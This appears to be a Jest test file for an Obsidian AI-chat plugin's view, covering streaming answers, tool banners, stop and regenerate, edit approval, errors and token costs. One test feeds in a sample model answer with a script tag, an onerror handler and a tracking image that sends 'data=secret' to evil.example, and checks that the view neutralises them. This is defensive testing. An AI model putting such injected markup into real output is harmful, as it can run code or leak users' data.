/**
 * The chat view's messages, streamed: the real CopilotView (in the Obsidian double's workspace)
 * over the real runners, the scripted chat-completions server on 127.0.0.1, and a real folder of
 * notes. Covers the seed's focused cases: streaming text, banners appearing and finishing, and the
 * React #409 cases (New chat, Stop mid-stream, Regenerate, closing the view while a tool runs).
 */
import { act, fireEvent, screen, waitFor, within } from "@testing-library/react";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { MarkdownRenderer } from "obsidian";
import { Plugin } from "../../../test/obsidian/obsidian";
import { openChatView, type ChatViewSetup } from "../../../test/helpers/chatViewHarness";
import { startOpenAIServer, type OpenAIServer, type Script } from "../../../test/helpers/openAIServer";

jest.setTimeout(20_000);

let server: OpenAIServer;
let chat: ChatViewSetup | undefined;
const consoleErrors: unknown[][] = [];

beforeEach(() => {
  consoleErrors.length = 0;
  jest.spyOn(console, "error").mockImplementation((...args: unknown[]) => void consoleErrors.push(args));
});

afterEach(async () => {
  await act(async () => {
    await chat?.close();
  });
  chat = undefined;
  await server?.close();
  jest.restoreAllMocks();
  document.body.replaceChildren();
});

async function open(script: Script, options: Parameters<typeof openChatView>[1] = {}): Promise<ChatViewSetup> {
  server = await startOpenAIServer(script);
  chat = await act(() => openChatView(server, options));
  return chat;
}

function conversation(): HTMLElement {
  return screen.getByRole("log", { name: "Conversation" });
}

async function send(text: string): Promise<void> {
  const box = screen.getByRole("textbox", { name: "Message" });
  fireEvent.change(box, { target: { value: text } });
  fireEvent.keyDown(box, { key: "Enter" });
}

/** The card's Accept once its first moments are over (it ignores everything before). */
async function armedAccept(card: HTMLElement): Promise<HTMLElement> {
  const accept = within(card).getByRole("button", { name: "Accept" });
  await waitFor(() => expect(accept.getAttribute("aria-disabled")).toBe("false"), { timeout: 3_000 });
  return accept;
}

const answers = () => within(conversation()).queryAllByRole("article", { name: "Copilot" });
/**
 * Nothing logged as an error. React's "not wrapped in act(...)" notice is left out: it is about
 * the test (the answer streams in from a real server, outside any act), not about the view.
 */
const noReactErrors = () => expect(consoleErrors.map((args) => String(args[0])).filter((message) => !message.includes("was not wrapped in act("))).toEqual([]);

describe("ChatSingleMessage in the chat view", () => {
  it("streams an answer as rendered Markdown, each complete block rendered once", async () => {
    const render = jest.spyOn(MarkdownRenderer, "render");
    const text = "# Plan\n\nFirst **point**.\n\n- a\n- b\n\nLast line with [[Cats]].";
    await open([{ text, chunkSize: 3 }], { settings: { defaultMode: "chat" }, notes: { "Cats.md": "cats" } });
    await send("Make a plan");
    await waitFor(() => expect(screen.getByRole("button", { name: "Send" })).toBeTruthy());
    const [answer] = answers();
    expect(within(answer!).getByRole("heading", { name: "Plan" })).toBeTruthy();
    expect(answer!.querySelector("strong")?.textContent).toBe("point");
    expect(answer!.querySelectorAll("li")).toHaveLength(2);
    // The first three blocks are rendered once each (twice where React's development StrictMode
    // mounts effects twice), however many pieces of text arrived after them.
    const rendered = render.mock.calls.map((call) => call[1]);
    const mounts = rendered.filter((markdown) => markdown === "# Plan\n\n").length;
    expect(mounts).toBeGreaterThanOrEqual(1);
    expect(mounts).toBeLessThanOrEqual(2);
    for (const block of ["First **point**.\n\n", "- a\n- b\n\n"]) expect(rendered.filter((markdown) => markdown === block)).toHaveLength(mounts);
    // The text arrived in 23 pieces; the growing last block was rendered again, the others were not.
    expect(server.requests).toHaveLength(1);
    expect(within(screen.getByRole("article", { name: "You" })).getByText("Make a plan")).toBeTruthy();
    // Every block was rendered into the view's one inert document (no window), never into the page.
    const documents = new Set(render.mock.calls.map((call) => call[2].ownerDocument));
    expect(documents.size).toBe(1);
    expect([...documents].map((rendered) => [rendered === document, rendered.defaultView])).toEqual([[false, null]]);
    render.mockRestore();
    noReactErrors();
  });

  it("does not render earlier messages again while a new answer streams", async () => {
    await open([{ text: "First answer." }, { text: "Second answer, longer than the first.", chunkSize: 2 }], { settings: { defaultMode: "chat" } });
    await send("one");
    await waitFor(() => expect(answers()).toHaveLength(1));
    await waitFor(() => expect(screen.getByRole("button", { name: "Send" })).toBeTruthy());
    const render = jest.spyOn(MarkdownRenderer, "render");
    await send("two");
    await waitFor(() => expect(answers()[1]?.textContent).toContain("Second answer, longer than the first."));
    expect(render.mock.calls.map((call) => call[1])).not.toContain("First answer.");
    render.mockRestore();
  });

  it("shows a tool banner running, then done with the tool's wording, its arguments and a capped result", async () => {
    let release!: () => void;
    const gate = new Promise<void>((resolve) => (release = resolve));
    await open(
      async (request) => {
        if (request.index === 0) return { text: "Checking.", toolCalls: [{ name: "readNote", arguments: '{"notePath":"Alpha.md"}' }] };
        await gate;
        return { text: "Alpha says hello." };
      },
      { settings: { defaultMode: "agent" }, notes: { "Alpha.md": "hello from alpha" } },
    );
    await send("What does Alpha say?");
    const banner = await waitFor(() => {
      const element = conversation().querySelector<HTMLElement>(".vault-copilot-tool-banner");
      expect(element?.className).toContain("is-done");
      return element!;
    });
    expect(banner.querySelector(".vault-copilot-tool-args")?.textContent).toBe("notePath: Alpha.md");
    expect(banner.querySelector(".vault-copilot-tool-result")?.textContent).toContain("hello from alpha");
    release();
    await waitFor(() => expect(answers()[0]?.textContent).toContain("Alpha says hello."));
    // Text, banner, text: in the order the agent did them.
    const parts = Array.from(answers()[0]!.children).map((element) => element.className.split(" ")[0]);
    expect(parts.slice(0, 3)).toEqual(["vault-copilot-markdown", "vault-copilot-tool-call", "vault-copilot-markdown"]);
    noReactErrors();
  });

  it("Stop mid-stream keeps the partial answer, Send comes back, and nothing arrives after", async () => {
    let sent!: () => void;
    const chunksSent = new Promise<void>((resolve) => (sent = resolve));
    await open([{ text: "A partial answer", holdOpen: true, onChunksSent: () => sent() }], { settings: { defaultMode: "chat" } });
    await send("go");
    await chunksSent;
    await waitFor(() => expect(answers()[0]?.textContent).toContain("A partial answer"));
    fireEvent.click(screen.getByRole("button", { name: "Stop" }));
    await waitFor(() => expect(screen.getByRole("button", { name: "Send" })).toBeTruthy());
    await server.requests[0]!.closed;
    expect(answers()[0]!.textContent).toContain("A partial answer");
    expect(answers()[0]!.textContent).toContain("Stopped.");
    noReactErrors();
  });

  it("Escape in the message box stops the reply", async () => {
    await open([{ text: "never ends", holdOpen: true }], { settings: { defaultMode: "chat" } });
    await send("go");
    await screen.findByRole("button", { name: "Stop" });
    fireEvent.keyDown(screen.getByRole("textbox", { name: "Message" }), { key: "Escape" });
    await waitFor(() => expect(screen.getByRole("button", { name: "Send" })).toBeTruthy());
  });

  /** A server whose first request calls two tools, and whose later requests wait until released. */
  const toolsThenWait = () => {
    let release!: () => void;
    const gate = new Promise<void>((resolve) => (release = resolve));
    const script: Script = async (request) => {
      if (request.index === 0) return { toolCalls: [{ name: "getFileTree", arguments: "{}" }, { name: "readNote", arguments: '{"notePath":"A.md"}' }] };
      await gate;
      return { text: "done" };
    };
    return { script, release: () => release() };
  };

  it("draws banners as children of their message, in the view's one React root", async () => {
    const { script, release } = toolsThenWait();
    const { view } = await open(script, { settings: { defaultMode: "agent" }, notes: { "A.md": "a" } });
    await send("look around");
    await waitFor(() => expect(conversation().querySelectorAll(".vault-copilot-tool-banner")).toHaveLength(2));
    const answer = answers()[0]!;
    expect(answer.querySelectorAll(".vault-copilot-tool-call > .vault-copilot-tool-banner")).toHaveLength(2);
    // One React root in the whole document: the view's own (React marks a root's container).
    const containers = Array.from(document.querySelectorAll("*")).filter((element) => Object.keys(element).some((key) => key.startsWith("__reactContainer$")));
    expect(containers).toEqual([view.contentEl]);
    const messageId = answer.getAttribute("data-message-id")!;
    expect(view.getToolCallRoots().getMessageToolCallRoots(messageId).size).toBe(2);
    release();
    await waitFor(() => expect(answers()[0]?.textContent).toContain("done"));
    expect(answers()[0]!.querySelectorAll(".vault-copilot-tool-banner.is-done")).toHaveLength(2);
    noReactErrors();
  });

  it("New chat while an agent's tools run leaves no root behind and logs no React error", async () => {
    const { script, release } = toolsThenWait();
    await open(script, { settings: { defaultMode: "agent" }, notes: { "A.md": "a" } });
    await send("look around");
    await waitFor(() => expect(conversation().querySelectorAll(".vault-copilot-tool-banner")).toHaveLength(2));
    fireEvent.click(screen.getByRole("button", { name: "New chat" }));
    await waitFor(() => expect(answers()).toHaveLength(0));
    await waitFor(() => expect(chat!.view.getToolCallRoots().count()).toBe(0));
    // The new chat works: its answer arrives once the server lets it.
    await send("and now?");
    release();
    await waitFor(() => expect(answers()[0]?.textContent).toContain("done"));
    noReactErrors();
  });

  it("closing the view while an agent's tools run leaves no root behind and logs no React error", async () => {
    const { script, release } = toolsThenWait();
    const { leaf, view } = await open(script, { settings: { defaultMode: "agent" }, notes: { "A.md": "a" } });
    await send("look around");
    await waitFor(() => expect(conversation().querySelectorAll(".vault-copilot-tool-banner")).toHaveLength(2));
    expect(view.getToolCallRoots().count()).toBe(2);
    await act(() => leaf.close());
    release();
    expect(view.getToolCallRoots().count()).toBe(0);
    noReactErrors();
  });

  it("Regenerate replaces the last answer; its banners go and the new ones come, without React errors", async () => {
    await open(
      [
        { toolCalls: [{ name: "getFileTree", arguments: "{}" }] },
        { text: "First try." },
        { toolCalls: [{ name: "getTagList", arguments: "{}" }] },
        { text: "Second try." },
      ],
      { settings: { defaultMode: "agent" }, notes: { "A.md": "a #tag" } },
    );
    await send("try");
    await waitFor(() => expect(answers()[0]?.textContent).toContain("First try."));
    fireEvent.click(screen.getByRole("button", { name: "Regenerate" }));
    await waitFor(() => expect(answers()[0]?.textContent).toContain("Second try."));
    expect(answers()).toHaveLength(1);
    expect(conversation().querySelectorAll(".vault-copilot-tool-banner")).toHaveLength(1);
    await waitFor(() => expect(chat!.view.getToolCallRoots().count()).toBe(1));
    noReactErrors();
  });

  it("an answer carrying dataviewjs, a script, an event attribute, a remote image and an embed runs nothing and fetches nothing", async () => {
    const { app } = await open(
      [
        {
          text: [
            "```dataviewjs",
            "window.__ran = true",
            "```",
            "",
            '<script>window.__ran = true</script> <img src="https://evil.example/x.png" onerror="window.__ran = true">',
            "",
            "![tracker](https://evil.example/pixel.png?data=secret) and ![[Secret note]]",
            "",
            "`$= window.__ran = true`",
          ].join("\n"),
        },
      ],
      { settings: { defaultMode: "chat" }, notes: { "Secret note.md": "TOP SECRET TEXT" } },
    );
    const ran: string[] = [];
    // A Dataview-like plugin, as it would be in the user's Obsidian: its processor must never see model output.
    const plugin = new Plugin(app, { id: "dataview", name: "Dataview", version: "1", minAppVersion: "1", author: "", description: "" });
    plugin.registerMarkdownCodeBlockProcessor("dataviewjs", (source: string) => void ran.push(source));
    await send("show me");
    await waitFor(() => expect(answers()[0]?.textContent).toContain("tracker"));
    await waitFor(() => expect(screen.getByRole("button", { name: "Send" })).toBeTruthy());
    const answer = answers()[0]!;
    expect(ran).toEqual([]);
    expect((window as unknown as { __ran?: boolean }).__ran).toBeUndefined();
    expect(answer.querySelectorAll("script, img, iframe, .internal-embed")).toHaveLength(0);
    expect(answer.querySelector("[onerror]")).toBeNull();
    expect(answer.textContent).not.toContain("TOP SECRET TEXT");
    // The image and the embed are links now: nothing loads until the user follows one.
    expect(Array.from(answer.querySelectorAll("a")).map((link) => link.textContent)).toEqual(expect.arrayContaining(["tracker", "Secret note"]));
    expect(answer.textContent).toContain("window.__ran = true");
  });

  it("opens a cited note on click, and in a new tab on modifier-click", async () => {
    const { app } = await open([{ text: "See [[Cats]] for details." }], { settings: { defaultMode: "chat" }, notes: { "Cats.md": "cats" } });
    const opened = jest.spyOn(app.workspace, "openLinkText");
    await send("where?");
    const link = await waitFor(() => {
      const element = answers()[0]?.querySelector<HTMLAnchorElement>("a.internal-link");
      expect(element).toBeTruthy();
      return element!;
    });
    fireEvent.click(link);
    fireEvent.click(link, { ctrlKey: true });
    expect(opened.mock.calls.map((call) => [call[0], Boolean(call[2])])).toEqual([
      ["Cats", false],
      ["Cats", true],
    ]);
  });

  it("shows Obsidian's hover preview of a cited note and keeps a code block's language, after the answer moved in from the inert document", async () => {
    const { app } = await open([{ text: "Смотри [[Каталог/Заметка]].\n\n```python\nprint('你好')\n```" }], {
      settings: { defaultMode: "chat" },
      notes: { "Каталог/Заметка.md": "текст" },
    });
    await send("где?");
    const link = await waitFor(() => {
      const element = answers()[0]?.querySelector<HTMLAnchorElement>("a.internal-link");
      expect(element).toBeTruthy();
      return element!;
    });
    expect(link.ownerDocument).toBe(document);
    fireEvent.mouseOver(link);
    expect(app.workspace.hoverLinks).toEqual([expect.objectContaining({ linktext: "Каталог/Заметка", targetEl: link, source: "vault-copilot-chat-view" })]);
    expect(answers()[0]!.querySelector("pre > code.language-python")?.textContent).toContain("print('你好')");
  });

  it("asks for an edit in the conversation: Reject leaves the note, Accept writes it and the banner offers Undo", async () => {
    const { vault } = await open(
      [
        { toolCalls: [{ name: "replaceInFile", arguments: JSON.stringify({ path: "Plan.md", oldText: "draft", newText: "final" }) }] },
        { text: "Left it." },
        { toolCalls: [{ name: "replaceInFile", arguments: JSON.stringify({ path: "Plan.md", oldText: "draft", newText: "final" }) }] },
        { text: "Changed it." },
      ],
      { settings: { defaultMode: "agent" }, notes: { "Plan.md": "status: draft\n" } },
    );
    await send("finalise");
    fireEvent.click(await screen.findByRole("button", { name: "Reject" }));
    await waitFor(() => expect(answers()[0]?.textContent).toContain("Left it."));
    expect(readFileSync(join(vault.root, "Plan.md"), "utf8")).toBe("status: draft\n");

    await send("finalise, really");
    const card = await screen.findByRole("region", { name: "Edit Plan.md?" });
    expect(card.querySelector(".vault-copilot-diff-removed")?.textContent).toContain("draft");
    expect(card.querySelector(".vault-copilot-diff-added mark")?.textContent).toBe("final");
    // The tool is not working while it waits: its banner says it would like to, with no timer.
    await waitFor(() => expect(answers()[1]!.querySelector(".vault-copilot-tool-title")?.textContent).toMatch(/\(waiting for your answer\)$/));
    expect(answers()[1]!.querySelector(".vault-copilot-tool-time")).toBeNull();
    fireEvent.click(await armedAccept(card));
    await waitFor(() => expect(answers()[1]?.textContent).toContain("Changed it."));
    expect(readFileSync(join(vault.root, "Plan.md"), "utf8")).toBe("status: final\n");
    const banner = answers()[1]!.querySelector<HTMLElement>(".vault-copilot-tool-banner")!;
    expect(banner.querySelector(".vault-copilot-tool-title")?.textContent).toBe("Edited +1 −1 · Plan.md");
    fireEvent.click(within(banner).getByRole("button", { name: "Undo" }));
    await waitFor(() => expect(readFileSync(join(vault.root, "Plan.md"), "utf8")).toBe("status: draft\n"));
  });

  it("an approval card that appears while the user types in Message never takes the focus, and no key resolves it", async () => {
    const { vault } = await open(
      [{ toolCalls: [{ name: "replaceInFile", arguments: JSON.stringify({ path: "Daily/2026-12-01.md", oldText: "draft", newText: "final" }) }] }, { text: "Changed it." }],
      { settings: { defaultMode: "agent" }, notes: { "Daily/2026-12-01.md": "status: draft\n" } },
    );
    await send("finalise the daily note");
    const box = screen.getByRole("textbox", { name: "Message" });
    box.focus();
    fireEvent.change(box, { target: { value: "and then " } });
    const card = await screen.findByRole("region", { name: "Edit Daily/2026-12-01.md?" });
    // Announced, not focused: the keys typed next stay in the message box.
    expect(document.activeElement).toBe(box);
    expect(screen.getByRole("status").textContent).toBe("Copilot wants to edit Daily/2026-12-01.md");
    for (const key of [" ", "Enter", "a", "Tab"]) fireEvent.keyDown(document.activeElement!, { key });
    fireEvent.keyDown(document.activeElement!, { key: "Enter", ctrlKey: true });
    // A click in the card's first moments (it appeared under the pointer) and Mod+Enter in it do nothing yet.
    const accept = within(card).getByRole("button", { name: "Accept" });
    expect(accept.getAttribute("aria-disabled")).toBe("true");
    fireEvent.click(accept);
    fireEvent.keyDown(accept, { key: "Enter", metaKey: true });
    expect(screen.getByRole("region", { name: "Edit Daily/2026-12-01.md?" })).toBe(card);
    expect(readFileSync(join(vault.root, "Daily/2026-12-01.md"), "utf8")).toBe("status: draft\n");
    expect(document.activeElement).toBe(box);
    // Once armed, Mod+Enter inside the card is the explicit shortcut that accepts.
    await armedAccept(card);
    fireEvent.keyDown(within(card).getByRole("textbox"), { key: "Enter", ctrlKey: true });
    await waitFor(() => expect(answers()[0]?.textContent).toContain("Changed it."));
    expect(readFileSync(join(vault.root, "Daily/2026-12-01.md"), "utf8")).toBe("status: final\n");
  });

  it("shows an error in words with Retry, and Retry answers", async () => {
    await open([{ status: 401, message: "Incorrect API key provided" }, { text: "Works now." }], { settings: { defaultMode: "chat" } });
    await send("hello");
    const alert = await screen.findByRole("alert");
    expect(alert.textContent).toMatch(/API key/);
    // A refused key is mended in the settings: the error offers them (here the double has no
    // settings window, so the user is told where to look).
    fireEvent.click(within(alert).getByRole("button", { name: "Open settings" }));
    expect(document.body.textContent).toContain("Open settings → Vault Copilot");
    fireEvent.click(within(alert).getByRole("button", { name: "Retry" }));
    await waitFor(() => expect(answers()[0]?.textContent).toContain("Works now."));
    expect(screen.queryByRole("alert")).toBeNull();
  });

  it("announces a finished answer once, politely, and shows the turn's token usage", async () => {
    await open([{ text: "All done.", usage: { prompt_tokens: 1200, completion_tokens: 34 } }], { settings: { defaultMode: "chat" } });
    await send("hi");
    await waitFor(() => expect(screen.getByRole("status").textContent).toBe("Copilot answered: All done."));
    expect(conversation().getAttribute("aria-live")).toBe("off");
    expect(answers()[0]!.querySelector(".vault-copilot-usage")?.textContent).toBe("1,200 in · 34 out");
    expect(screen.queryByLabelText(/^Chat usage/)).toBeNull();
  });

  it("shows cache reads and, with the model's prices entered, the cost of each answer and of the chat", async () => {
    const { settings } = await open(
      [
        { text: "One.", usage: { prompt_tokens: 1200, completion_tokens: 34, prompt_tokens_details: { cached_tokens: 1000 } } },
        { text: "Two.", usage: { prompt_tokens: 2000, completion_tokens: 100 } },
      ],
      { settings: { defaultMode: "chat" } },
    );
    settings.provider = { ...settings.provider, prices: { input: 2, output: 8, cacheRead: 0.5, cacheWrite: null } };
    await send("one");
    await waitFor(() => expect(answers()[0]!.querySelector(".vault-copilot-usage")).not.toBeNull());
    // (200 × 2 + 1,000 × 0.5 + 34 × 8) / 1,000,000 dollars
    expect(answers()[0]!.querySelector(".vault-copilot-usage")?.textContent).toBe("1,200 in (1,000 cached) · 34 out · $0.0012");
    expect(answers()[0]!.querySelector(".vault-copilot-usage")?.getAttribute("aria-label")).toBe("Tokens: 1200 in, 34 out, 1000 read from the cache, cost $0.0012");
    await send("two");
    await waitFor(() => expect(answers()[1]!.querySelector(".vault-copilot-usage")).not.toBeNull());
    expect(screen.getByLabelText(/^Chat usage/).textContent).toBe("This chat: 3,200 in (1,000 cached) · 134 out · $0.0060");
  });
});

describe("the message box", () => {
  it("Enter sends, Shift+Enter does not, an open input-method composition does not, Up brings back the last message", async () => {
    await open([{ text: "one" }], { settings: { defaultMode: "chat" } });
    const box = screen.getByRole<HTMLTextAreaElement>("textbox", { name: "Message" });
    fireEvent.change(box, { target: { value: "你好" } });
    fireEvent.keyDown(box, { key: "Enter", isComposing: true });
    fireEvent.keyDown(box, { key: "Enter", shiftKey: true });
    expect(server.requests).toHaveLength(0);
    fireEvent.keyDown(box, { key: "Enter" });
    await waitFor(() => expect(answers()[0]?.textContent).toContain("one"));
    expect(box.value).toBe("");
    fireEvent.keyDown(box, { key: "ArrowUp" });
    expect(box.value).toBe("你好");
  });

  it("@ offers notes, folders and tags; the chosen one stays in the message as written, becomes a chip and goes with it", async () => {
    await open([{ text: "ok" }], { settings: { defaultMode: "chat" }, notes: { "Projects/Alpha plan.md": "ALPHA BODY #work", "Beta.md": "BETA BODY" } });
    const box = screen.getByRole<HTMLTextAreaElement>("textbox", { name: "Message" });
    // A mention may hold spaces (names do).
    fireEvent.change(box, { target: { value: "Compare @alpha pl", selectionStart: 17 } });
    const option = await screen.findByRole("option", { name: /Alpha plan/ });
    expect(option.getAttribute("aria-selected")).toBe("true");
    fireEvent.keyDown(box, { key: "Enter" });
    const chips = await screen.findByRole("list", { name: "Context for the next message" });
    expect(within(chips).getByText("Alpha plan")).toBeTruthy();
    expect(box.value).toBe("Compare [[Projects/Alpha plan]] ");
    // Typed on at once (before the next frame): the caret the typing left stays where it is.
    fireEvent.change(box, { target: { value: "Compare [[Projects/Alpha plan]] with @be", selectionStart: 40 } });
    await screen.findByRole("option", { name: /Beta/ });
    // Enter picks the suggestion, it does not send.
    fireEvent.keyDown(box, { key: "Enter" });
    await waitFor(() => expect(box.value).toBe("Compare [[Projects/Alpha plan]] with [[Beta]] "));
    expect(server.requests).toHaveLength(0);
    fireEvent.keyDown(box, { key: "Enter" });
    await waitFor(() => expect(server.requests).toHaveLength(1));
    expect(server.requests[0]!.rawBody).toContain("ALPHA BODY");
    expect(server.requests[0]!.rawBody).toContain("BETA BODY");
    expect(within(screen.getByRole("article", { name: "You" })).getByText(/Compare/).textContent).toBe("Compare [[Projects/Alpha plan]] with [[Beta]]");
  });

  it("Enter on a mention still being typed picks its first suggestion once it arrives, and never sends a mention that matches nothing", async () => {
    await open([{ text: "ok" }], { settings: { defaultMode: "chat" }, notes: { "Кошки и собаки.md": "КОШКИ", "Other.md": "other" } });
    const box = screen.getByRole<HTMLTextAreaElement>("textbox", { name: "Message" });
    // Enter comes before the list does.
    fireEvent.change(box, { target: { value: "Tell me about @кошк", selectionStart: 19 } });
    fireEvent.keyDown(box, { key: "Enter" });
    await waitFor(() => expect(box.value).toBe("Tell me about [[Кошки и собаки]] "));
    fireEvent.change(box, { target: { value: "And @zzzz", selectionStart: 9 } });
    await screen.findByText(/No note, folder or tag matches/);
    fireEvent.keyDown(box, { key: "Enter" });
    fireEvent.change(box, { target: { value: "And @zzzz qq", selectionStart: 12 } });
    // Past a space, words that match nothing close the list; they are words.
    await waitFor(() => expect(screen.queryByRole("listbox")).toBeNull());
    expect(server.requests).toHaveLength(0);
    fireEvent.keyDown(box, { key: "Enter" });
    await waitFor(() => expect(server.requests).toHaveLength(1));
    expect(server.requests[0]!.rawBody).toContain("КОШКИ");
  });

  it("the Mode and Model selects switch the runner and the model of the next message", async () => {
    await open([{ text: "ok" }], { settings: { defaultMode: "chat" }, knownModels: ["big-model", "test-model"] });
    fireEvent.change(screen.getByRole("combobox", { name: "Mode" }), { target: { value: "agent" } });
    const model = screen.getByRole<HTMLSelectElement>("combobox", { name: "Model" });
    await waitFor(() => expect(Array.from(model.options).map((option) => option.value)).toEqual(["test-model", "big-model"]));
    fireEvent.change(model, { target: { value: "big-model" } });
    await send("hi");
    await waitFor(() => expect(server.requests).toHaveLength(1));
    expect(server.requests[0]!.body.model).toBe("big-model");
    expect(server.requests[0]!.body.tools?.length).toBeGreaterThan(0);
    expect(Array.from(screen.getByRole<HTMLSelectElement>("combobox", { name: "Mode" }).options).map((option) => option.textContent)).toEqual(["Chat", "Vault QA", "Agent"]);
  });
});
